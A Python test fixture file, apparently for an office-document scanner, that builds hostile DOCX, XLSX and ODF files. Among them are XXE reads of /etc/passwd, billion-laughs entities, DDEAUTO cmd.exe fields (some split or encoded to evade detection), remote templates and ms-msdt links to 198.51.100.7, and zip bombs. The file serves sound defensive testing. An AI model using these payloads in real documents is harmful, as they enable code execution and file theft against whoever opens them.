"""Hostile and broken archives and office files, as in `hostile.py`."""

from tests.documents.builders import (
    ELSEWHERE,
    W,
    claiming,
    moved,
    office_file,
    open_file,
    overlapping,
    packed,
    relation,
    renamed_inside,
)

FETCHING = '<svg xmlns="http://www.w3.org/2000/svg"><use href="https://198.51.100.7/a.svg#a"/></svg>'
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<html><script>alert(1)</script></html>"
LAUGHS = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">{}]><x>&j;</x>'.format(
    "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
)
PASSWD = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
EXCHANGE = f"<w:document {W}><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:document>"
OTHER_MACROS = '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
PACKAGE = b"\xd0\xcf" + "\x01Ole10Native".encode("utf-16-le")
SWOLLEN = ("xl/x.xml", b"<a>" + b" " * (12 << 20) + b"</a>")

MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_MACROS = '<Override PartName="/xl/x.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
SPELLED_MACROS = SHEET_MACROS.replace("macrosheet", "macro&#115;heet")


def field(*pieces):
    """The main part of a text with one field, whose instruction comes in pieces; a tuple is a field inside it."""
    return f"<w:document {W}><w:body><w:p>{_runs(pieces)}</w:p></w:body></w:document>"


def _runs(pieces):
    inside = "".join(
        _runs(piece) if isinstance(piece, tuple) else f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
        for piece in pieces
    )
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"{begin}{inside}{end}"


def text_with(body):
    return lambda: office_file("docx", body=body)


def related(kind, target, mode="External"):
    """A text with a relation of a kind to a target."""
    part = relation(kind, target).replace('"External"', f'"{mode}"')
    return lambda: office_file("docx", ("word/_rels/document.xml.rels", part))


def open_text_with(inside):
    return lambda: open_file("text", inside=inside)


def named_otherwise():
    """A text whose main part has no name of XML."""
    types = f'<Types><Override PartName="/word/document.dat" ContentType="{MAIN}"/></Types>'
    return packed([("[Content_Types].xml", types), ("word/document.dat", EXCHANGE)])


OFFICE_FILES = {
    "archive that says it swells": (
        "a.docx",
        lambda: claiming(office_file("docx"), "docProps/core.xml", size=200_000_001),
        "unpacked",
    ),
    "archive that swells below the limit": ("a.xlsx", lambda: office_file("xlsx", SWOLLEN), "unpacked"),
    "archive that lies about its sizes": (
        "a.docx",
        lambda: claiming(office_file("docx", ("word/x.bin", bytes(1 << 20))), "word/x.bin", size=10),
        "damaged",
    ),
    "archive that names bytes twice": ("a.docx", overlapping, "structure"),
    "archive of too many members": (
        "a.docx",
        lambda: office_file("docx", *[(f"x/{number}", b"") for number in range(5_000)]),
        "unpacked",
    ),
    "archive with a locked member": (
        "a.docx",
        lambda: claiming(office_file("docx"), "docProps/core.xml", flags=1),
        "encrypted",
    ),
    "archive that leads elsewhere": ("a.docx", lambda: office_file("docx", ("../../x", b"x")), "structure"),
    "archive with an absolute name": ("a.docx", lambda: office_file("docx", ("/etc/x", b"x")), "structure"),
    "archive with a name of Windows": ("a.docx", lambda: office_file("docx", ("a\\..\\x", b"x")), "structure"),
    "archive with a name twice": ("a.docx", lambda: office_file("docx", ("WORD/document.xml", b"<a/>")), "structure"),
    "archive of two opinions": (
        "a.docx",
        lambda: renamed_inside(office_file("docx"), "docProps/core.xml", "docProps/evil.exe"),
        "damaged",
    ),
    "archive behind something": ("a.docx", lambda: b"PK\x03\x04junk" + office_file("docx"), "damaged"),
    "archive before something": ("a.docx", lambda: office_file("docx") + HTML, "damaged"),
    "archive cut off": ("a.docx", lambda: office_file("docx")[:-30], "damaged"),
    "nothing but a signature": ("a.docx", lambda: b"PK\x03\x04", "damaged"),
    "plain archive": ("a.docx", lambda: packed([("page.html", b"<p>")]), "kind"),
    "program for Java": ("a.docx", lambda: packed([("META-INF/MANIFEST.MF", b"x"), ("A.class", b"x")]), "kind"),
    "book": ("a.odt", lambda: packed([("mimetype", "application/epub+zip")]), "kind"),
    "drawing of an office": ("a.odt", lambda: open_file("graphics"), "kind"),
    "text without its main part": (
        "a.docx",
        lambda: moved(office_file("docx"), "word/document.xml", "word/elsewhere.xm"),
        "damaged",
    ),
    "text with macros": ("a.docx", lambda: office_file("docx", ("word/vbaProject.bin", b"x")), "macros"),
    "text of a kind with macros": ("a.docx", lambda: office_file("docx", types=OTHER_MACROS), "macros"),
    "text with controls": ("a.docx", lambda: office_file("docx", ("word/activeX/activeX1.xml", b"<a/>")), "macros"),
    "text that exchanges data": ("a.docx", lambda: office_file("docx", body=EXCHANGE), "macros"),
    "text with a template elsewhere": (
        "a.docx",
        lambda: office_file("docx", ("word/_rels/settings.xml.rels", relation("attachedTemplate", ELSEWHERE))),
        "external",
    ),
    "text with an image elsewhere": (
        "a.docx",
        lambda: office_file("docx", ("word/_rels/document.xml.rels", relation("image", "\\\\198.51.100.7\\x.png"))),
        "external",
    ),
    "text with a program": ("a.docx", lambda: office_file("docx", ("word/embeddings/a.exe", b"x")), "attachment"),
    "text with a program in disguise": (
        "a.docx",
        lambda: office_file("docx", ("word/media/a.png", b"MZ" + bytes(99))),
        "attachment",
    ),
    "text with a wrapped file": (
        "a.docx",
        lambda: office_file("docx", ("word/embeddings/oleObject1.bin", PACKAGE)),
        "attachment",
    ),
    "text with a drawing that runs": ("a.docx", lambda: office_file("docx", ("word/media/a.svg", SVG)), "macros"),
    "text that laughs": ("a.docx", lambda: office_file("docx", body=LAUGHS), "structure"),
    "text that reads a file": ("a.docx", lambda: office_file("docx", body=PASSWD), "structure"),
    "the same in another encoding": (
        "a.docx",
        lambda: office_file("docx", body=f'<?xml version="1.0" encoding="utf-16"?>{PASSWD}'.encode("utf-16")),
        "structure",
    ),
    "sheet that reads a file in a side part": (
        "a.xlsx",
        lambda: office_file("xlsx", ("customXml/item1.xml", f'<!DOCTYPE x SYSTEM "{ELSEWHERE}"><x/>')),
        "structure",
    ),
    "text of broken XML": ("a.docx", lambda: office_file("docx", body="<w:document>"), "damaged"),
    "text of deep XML": ("a.docx", lambda: office_file("docx", body="<a>" * 100_000), "stopped"),
    "open text with macros": ("a.odt", lambda: open_file("text", ("Basic/Standard/Module1.xml", b"<a/>")), "macros"),
    "open text with an event": ("a.odt", lambda: open_file("text", inside="<script:event-listener/>"), "macros"),
    "open slides with an image elsewhere": (
        "a.odp",
        lambda: open_file("presentation", inside=f'<draw:image xlink:href="{ELSEWHERE}"/>'),
        "external",
    ),
    "open sheet with a password": (
        "a.ods",
        lambda: open_file("spreadsheet", manifest="<encryption-data/>"),
        "encrypted",
    ),
    "text with an object of another scheme": (
        "a.docx",
        related("oleObject", "mhtml:http://198.51.100.7/a.html!x-usc:http://198.51.100.7/a.html"),
        "external",
    ),
    "text with a template of another scheme": (
        "a.docx",
        related("attachedTemplate", "url:http://198.51.100.7/a.dotm"),
        "external",
    ),
    "text with a template in a spelling of its own": (
        "a.docx",
        related("attachedTemplate", "file:///%5C%5C198.51.100.7/a.dotm"),
        "external",
    ),
    "text with a frame elsewhere": ("a.docx", related("frame", "ms-msdt:/id", mode="external"), "external"),
    "text with a page as its part": ("a.docx", related("aFChunk", "afchunk.rtf", mode="Internal"), "attachment"),
    "text that exchanges data in an attribute": (
        "a.docx",
        text_with(f'<w:document {W}><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe"/></w:document>'),
        "macros",
    ),
    "text that exchanges data in pieces": ("a.docx", text_with(field("D", "DEAU", "TO c:\\\\cmd.exe")), "macros"),
    "text that exchanges data by numbers": (
        "a.docx",
        text_with(field(("QUOTE 68 68 69",), " c:\\\\cmd.exe")),
        "macros",
    ),
    "text that exchanges data inside a field": (
        "a.docx",
        text_with(field("IF ", ("DDE c:\\\\cmd.exe",), " = 1")),
        "macros",
    ),
    "text that includes an image elsewhere": (
        "a.docx",
        text_with(field('INCLUDEPICTURE "http://198', '.51.100.7/x.png" \\d')),
        "external",
    ),
    "text that includes a text of a server": (
        "a.docx",
        text_with(field("INCLUDETEXT “\\\\\\\\198.51.100.7\\\\x.docx”")),
        "external",
    ),
    "text that includes what a field says": (
        "a.docx",
        text_with(field('INCLUDEPICTURE "ht', ('QUOTE "tp:x"',), '"')),
        "external",
    ),
    "text whose main part has another name": ("a.docx", named_otherwise, "macros"),
    "text of types with a DOCTYPE": (
        "a.docx",
        lambda: packed([("[Content_Types].xml", PASSWD), ("word/document.xml", "<a/>")]),
        "structure",
    ),
    "sheet of old macros": ("a.xlsx", lambda: office_file("xlsx", ("xl/x.xml", "<a/>"), types=SHEET_MACROS), "macros"),
    "sheet of old macros spelled otherwise": (
        "a.xlsx",
        lambda: office_file("xlsx", ("xl/x.xml", "<a/>"), types=SPELLED_MACROS),
        "macros",
    ),
    "open text with an image of another scheme": (
        "a.odt",
        open_text_with('<draw:image xlink:href="vnd.sun.star.webdav://198.51.100.7/x.png"/>'),
        "external",
    ),
    "open text with a background elsewhere": (
        "a.odt",
        open_text_with(f'<draw:fill-image xlink:href="{ELSEWHERE}"/>'),
        "external",
    ),
    "open text with a link that runs": (
        "a.odt",
        open_text_with('<text:a xlink:href="vnd.sun.star.script:../x.py$run?language=Python">x</text:a>'),
        "macros",
    ),
    "open text with a link in disguise": (
        "a.odt",
        open_text_with('<draw:area-circle xlink:href=" java&#10;script:alert(1)"/>'),
        "macros",
    ),
    "open text that exchanges data": ("a.odt", open_text_with('<office:dde-source office:dde-item="x"/>'), "macros"),
    "text with a drawing that fetches": (
        "a.docx",
        lambda: office_file("docx", ("word/media/a.svg", FETCHING)),
        "external",
    ),
}
